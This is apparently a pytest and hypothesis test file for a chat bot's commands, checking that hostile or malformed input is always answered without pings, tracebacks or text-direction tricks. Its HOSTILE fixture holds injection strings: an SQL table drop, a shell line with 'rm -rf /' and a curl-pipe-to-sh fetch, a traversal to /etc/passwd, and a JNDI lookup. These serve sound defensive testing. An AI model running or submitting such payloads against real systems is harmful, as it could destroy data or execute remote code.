"""Whatever is typed is answered, pings nobody and raises nothing (the fixtures look after the last two)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.localisation import LANGUAGES

HOSTILE = {
    "empty": "",
    "spaces": "   \t\n ",
    "too long": "a" * 6_000,
    "many words": "why " * 1_500,
    "emoji": "🇺🇦🤷\u200d♀️🚀" * 30,
    "everyone": "@everyone @here",
    "mentions": "<@123456789012345678> <@&123456789012345678> <#123456789012345678> </about:1>",
    "markdown": "# **bold** ~~no~~ ||spoiler|| `code` ```\nblock\n``` [link](https://example.org) > quote\n- item",
    "right to left": "\u202eNATO\u202c \u200f\u2067الناتو\u2069",
    "null": "US\x00\x00",
    "controls": "\x1b[31mred\x07\x08",
    "surrogate": "half \ud83d a pair",
    "sql": "'; DROP TABLE facts; -- ",
    "shell": "$(rm -rf /) `id` && curl http://example.org | sh",
    "traversal": "../../../../etc/passwd",
    "template": "{0.__class__} {{7*7}} %s %n ${jndi:ldap://x}",
    "zalgo": "N\u0335\u0321\u0322A\u0336\u0327T\u0337\u0328O\u0338" * 20,
    "a name, not a value": "United States of America · country · 3 promises",
    "an id that no longer exists": "an-entity-that-was-renamed",
    "quotation marks": "« “ ” » ‹ › ’ ' \" „",
    "custom id": "1p0|pledges|entity=united-states|9",
}


@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE.keys())
async def test_every_option_of_every_command_takes_it(world: Any, desk: Any, typed: str) -> None:
    for command, spec in desk.commands.items():
        for option in spec.options:
            others = {other.name: "x" for other in spec.options if other.required and other.name != option.name}
            for locale in ("en-US", "fr"):
                result = await world.raw(command, locale=locale, **(others | {option.name: typed}))
                assert result.response.ephemeral, command
                text = world.shown(result.response)
                assert text.strip(), command
                assert not re.search(r"@(everyone|here)|(?<!\\)<[@#/]", text), command
                assert "\u202e" not in text
                assert "Traceback" not in text


@pytest.mark.parametrize("typed", [5, 1.5, True, None])
async def test_a_value_of_the_wrong_type_is_answered(world: Any, typed: Any) -> None:
    result = await world.raw("pledges", entity=typed)
    assert world.shown(result.response)


async def test_a_missing_or_an_unknown_option_is_answered(world: Any, expected_faults: set[str]) -> None:
    expected_faults.add("fault")
    for options in ({}, {"nonsense": "x"}, {"entity": "US", "status": "nonsense"}):
        result = await world.raw("pledges", **options)
        assert world.shown(result.response)
    world.env.errors.clear()


@pytest.mark.parametrize("locale", LANGUAGES)
async def test_a_fact_that_is_gone_is_said_to_be_gone(world: Any, locale: str) -> None:
    message = (await world.ask("pledges", entity="US")).response
    stored = world.env.backend.get_message(message.channel_id, message.id)
    button = next(part for part in world.parts(stored) if part.get("label") == "In context")
    button["custom_id"] = "1c0||fact=gone-for-good|0"
    result = await world.press(message, custom_id=button["custom_id"], locale=locale)
    assert result.response.ephemeral
    assert world.shown(result.response).strip()


@pytest.mark.parametrize(
    "identifier",
    ["1d0|pledges|entity=gone-for-good|0", "1d0|nonsense|x=y|0", "1s0|pledges|entity=gone|3", "1p0|source|id=999|7"],
)
async def test_a_button_to_what_is_gone_is_answered(world: Any, identifier: str) -> None:
    message = (await world.ask("pledges", entity="US")).response
    stored = world.env.backend.get_message(message.channel_id, message.id)
    button = next(part for part in world.parts(stored) if part.get("label") == "Share")
    button["custom_id"] = identifier
    result = await world.press(message, custom_id=identifier)
    assert world.shown(result.response).strip()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(typed=st.text(max_size=300))
async def test_any_text_is_answered(world: Any, typed: str) -> None:
    for command, option in (("pledges", "entity"), ("source", "id")):
        result = await world.raw(command, **{option: typed})
        assert world.shown(result.response).strip()
